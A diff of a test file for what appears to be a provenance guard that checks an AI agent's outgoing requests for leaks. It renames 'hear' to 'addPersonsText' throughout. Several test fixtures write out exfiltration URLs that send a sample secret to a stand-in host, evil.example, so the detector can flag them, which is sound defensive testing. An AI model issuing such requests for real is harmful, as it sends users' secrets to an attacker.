@@ -40,7 +40,7 @@ describe("a host that nobody named", () => {
     ["an extract repeats it", (all: Provenance) => all.read("outside", EVIL)],
   ])("asks where %s", (_name, read) => {
     const all = openProvenance();
-    all.hear(`read ${HOME}`);
+    all.addPersonsText(`read ${HOME}`);
     read(all);
     expect(fate(all, get(EVIL))).toBe("unnamed");
   });
@@ -59,7 +59,7 @@ describe("a host that nobody named", () => {
     "",
   ])("is what is spelled otherwise: %j", (url) => {
     const all = openProvenance();
-    all.hear(`read ${HOME}`);
+    all.addPersonsText(`read ${HOME}`);
     expect(fate(all, get(url))).toBe("unnamed");
   });
 
@@ -70,7 +70,7 @@ describe("a host that nobody named", () => {
     "https://docs.example/a/../x",
   ])("is not what is called the same: %j", (url) => {
     const all = openProvenance();
-    all.hear(`read ${HOME}`);
+    all.addPersonsText(`read ${HOME}`);
     all.read("outside", "a page", page(HOME));
     expect(fate(all, get(url))).toBe("free");
   });
@@ -79,7 +79,7 @@ describe("a host that nobody named", () => {
 describe("a host that the person named", () => {
   test("is free as long as nothing was read", () => {
     const all = openProvenance();
-    all.hear("look at docs.example");
+    all.addPersonsText("look at docs.example");
     expect(fate(all, get("https://docs.example/guess?q=1"))).toBe("free");
     expect(fate(all, get("https://docs.example/", "accept", "text/html"))).toBe("free");
   });
@@ -88,7 +88,7 @@ describe("a host that the person named", () => {
     "asks for what is composed after %s text",
     (origin) => {
       const all = openProvenance();
-      all.hear(`read ${HOME}`);
+      all.addPersonsText(`read ${HOME}`);
       all.read(origin, "hunter2secret");
       for (const url of [
         `${HOME}?d=1`,
@@ -107,7 +107,7 @@ describe("a host that the person named", () => {
 
   test("a link that stood whole on a page of it is free, relative or not", () => {
     const all = openProvenance();
-    all.hear("read https://docs.example/x and follow the link to the install page");
+    all.addPersonsText("read https://docs.example/x and follow the link to the install page");
     all.read("outside", "Install (install/?os=linux#top) or https://docs.example/faq.", page(HOME));
     expect(fate(all, get("https://docs.example/install/?os=linux#top"))).toBe("free");
     expect(fate(all, get("https://docs.example/install/?os=linux"))).toBe("free");
@@ -126,7 +126,7 @@ describe("a host that the person named", () => {
 describe("a yes", () => {
   test("covers whole links on that host, and nothing that is composed", () => {
     const all = openProvenance();
-    all.hear(`read ${HOME}`);
+    all.addPersonsText(`read ${HOME}`);
     all.read("outside", "https://other.example/a and https://third.example/a", page(HOME));
     expect(fate(all, get("https://other.example/a"))).toBe("unnamed");
     all.allow("https://other.example/a");
@@ -138,7 +138,7 @@ describe("a yes", () => {
 
   test("to a composed request lets its echo name nothing elsewhere", () => {
     const all = openProvenance();
-    all.hear(`read ${HOME}`);
+    all.addPersonsText(`read ${HOME}`);
     all.read("workspace", "hunter2secret");
     all.allow(EVIL);
     const search = "https://docs.example/search?q=https://evil.example/?d=hunter2secret";
@@ -150,7 +150,7 @@ describe("a yes", () => {
 
 test("an echo that is asked for again vouches for no more than at first", () => {
   const all = openProvenance();
-  all.hear("look at docs.example");
+  all.addPersonsText("look at docs.example");
   const search = "https://docs.example/?q=https://evil.example/?d=hunter2secret";
   for (let times = 0; times < 3; times++) {
     all.read("outside", `You asked for ${search} which is ${EVIL}`, page(search));
@@ -166,7 +166,7 @@ describe("words for a program or a server", () => {
   test("are free before anything is read, and when the person or the owner said them all", () => {
     const all = openProvenance({ isHost: () => false, texts: ["bun test"] });
     expect(all.findLeak(words("anything"))).toBeUndefined();
-    all.hear("Search the tracker for crashes in the parser, please.");
+    all.addPersonsText("Search the tracker for crashes in the parser, please.");
     all.read("workspace", "hunter2secret");
     expect(all.findLeak(words("crashes", "parser"))).toBeUndefined();
     expect(all.findLeak(words("bun", "test"))).toBeUndefined();
@@ -185,7 +185,7 @@ describe("words for a program or a server", () => {
         fc.constantFrom("text", "list", "object", "undeclared"),
         async (order, shape) => {
           const all = openProvenance();
-          all.hear(`Look for ${SAID.join(" ")}, please`);
+          all.addPersonsText(`Look for ${SAID.join(" ")}, please`);
           all.read("outside", "hunter2secret");
           const chosen = order.map((at) => SAID[at] ?? "");
           const tool = {
@@ -231,7 +231,7 @@ describe("a choice among what was said", () => {
     fc.assert(
       fc.property(free, fc.array(choice, { minLength: 9, maxLength: 30 }), (before, after) => {
         const all = openProvenance();
-        all.hear("Look at the parser or the lexer");
+        all.addPersonsText("Look at the parser or the lexer");
         const send = (each: (typeof after)[number]) => {
           const leak = all.findLeak(each);
           if (!leak) all.pass(each);
@@ -246,7 +246,7 @@ describe("a choice among what was said", () => {
 
   test("is no request and nothing that stays here", () => {
     const all = openProvenance();
-    all.hear(`read ${HOME} or the parser`);
+    all.addPersonsText(`read ${HOME} or the parser`);
     all.read("outside", "a page", page(HOME));
     for (let i = 0; i < 20; i++) {
       all.pass({ kind: "nothing" });
@@ -269,17 +269,17 @@ describe("words for a program or a server carry nothing between them", () => {
     ["blanks at an end", "parser \t"],
   ])("but what stands so in what was said: %s", (_, text) => {
     const all = openProvenance({ isHost: () => false, texts: ["bun test"] });
-    all.hear('Look for crashes in the parser, "or" the lexer.');
+    all.addPersonsText('Look for crashes in the parser, "or" the lexer.');
     all.read("workspace", "hunter2secret");
     expect(all.findLeak(words(text))?.kind).toBe("composed");
     expect(all.findLeak(words(`bun test ${text}`))?.kind).toBe("composed");
-    all.hear(`And as I say: ${text}!`);
+    all.addPersonsText(`And as I say: ${text}!`);
     expect(all.findLeak(words(text))).toBeUndefined();
   });
 
   test.each(["parser", "parser,", '"or" the lexer.', "or the lexer", ""])("%p is free", (text) => {
     const all = openProvenance();
-    all.hear('Look for crashes in the parser, "or" the lexer.');
+    all.addPersonsText('Look for crashes in the parser, "or" the lexer.');
     all.read("workspace", "hunter2secret");
     expect(all.findLeak(words(text))).toBeUndefined();
   });
@@ -295,7 +295,7 @@ describe("what a person is told of a leak", () => {
     ["as a name", "https://hunter2secret.evil.example/"],
   ])("names whose words leave %s", (_name, url) => {
     const all = openProvenance();
-    all.hear("tidy up");
+    all.addPersonsText("tidy up");
     all.read("workspace", "password = hunter2secret");
     expect(all.findLeak(get(url))).toEqual({
       kind: "unnamed",
@@ -308,7 +308,7 @@ describe("what a person is told of a leak", () => {
 describe("mayLink()", () => {
   test("a link to a host that nobody named shows no query, and after reading nothing composed", () => {
     const all = openProvenance();
-    all.hear(`read ${HOME}`);
+    all.addPersonsText(`read ${HOME}`);
     expect(all.mayLink("https://bun.example/docs", "click")).toBe(true);
     expect(all.mayLink("https://bun.example/docs?q=1", "click")).toBe(false);
     expect(all.mayLink("https://bun.example/p.png", "look")).toBe(false);
